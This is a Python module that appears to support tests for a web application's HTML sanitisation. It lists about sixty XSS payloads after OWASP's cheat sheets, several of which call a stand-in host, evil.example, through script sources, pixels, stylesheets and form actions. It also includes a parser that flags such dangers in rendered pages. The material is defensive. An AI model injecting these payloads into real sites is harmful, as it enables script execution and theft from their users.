"""What people who mean harm type, after OWASP's cheat sheets on XSS and its filters, and what none of it may
become in a page."""

from collections.abc import Iterator
from html.parser import HTMLParser
from urllib.parse import urlsplit

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
    "<script src=//evil.example/x.js>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<img src="https://evil.example/pixel.png">',
    "<IMG SRC=`javascript:alert(1)`>",
    "<img src=1 href=1 onerror=\"javascript:alert(1)\"></img>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><a xlink:href=\"javascript:alert(1)\">x</a></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=https://evil.example/x.swf>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(https://evil.example/x.png)\">",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Log in</button></form>",
    "\"><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=\"alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "{{ 7|add:7 }}{% load static %}{% csrf_token %}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "javascript:alert(1)",
    "jAvAsCrIpT:alert(1)",
    "java\tscript:alert(1)",
    "javascript&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:x)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x][1]\n\n[1]: https://evil.example/pixel.png",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "<a href=\"https://a.example\" onclick=alert(1)>x</a>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "<script\x0b>alert(1)</script>",
]  # fmt: skip

FETCHING = ("src", "srcset", "poster", "data", "background", "srcdoc", "manifest", "ping", "xlink:href")
FORBIDDEN = {
    "iframe",
    "object",
    "embed",
    "base",
    "style",
    "frame",
    "applet",
    "math",
    "video",
    "audio",
    "source",
}


class _Reader(HTMLParser):
    """Reads tags as a browser does, and notes what is dangerous about them."""

    def __init__(self, host: str) -> None:
        super().__init__(convert_charrefs=True)
        self.host, self.found = host, []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.found += [f"<{tag}>: {why}" for why in self._dangers(tag, dict(attributes))]

    handle_startendtag = handle_starttag

    def _dangers(self, tag: str, attributes: dict[str, str | None]) -> Iterator[str]:
        if tag in FORBIDDEN:
            yield "forbidden"
        ours = (attributes.get("src") or "").startswith(("/static/", "/admin/jsi18n/"))
        if tag == "script" and not ours and attributes.get("type") != "application/json":
            yield "a script"
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            yield "a refresh"
        for name, value in attributes.items():
            value = value or ""
            if name.startswith("on") or name == "style":
                yield name
            fetched = name in FETCHING or (tag == "link" and name == "href" and attributes.get("rel") in
                                           ("stylesheet", "icon", "preload"))  # fmt: skip
            if fetched and urlsplit(value).netloc not in ("", self.host):
                yield f"asks another host: {value}"
            scheme = "".join(value.split()).partition(":")[0].lower()
            if name in ("href", "action", "formaction", *FETCHING) and scheme in (
                *("javascript", "vbscript", "data"),
            ):
                yield f"runs: {value}"
            if name in ("action", "formaction") and urlsplit(value).netloc:
                yield f"sends elsewhere: {value}"


def dangers(html: str, host: str = "localhost:8000") -> list[str]:
    """What of a page runs, asks another host, or leads elsewhere unseen; empty for a sound one."""
    reader = _Reader(host)
    reader.feed(html)
    reader.close()
    return reader.found
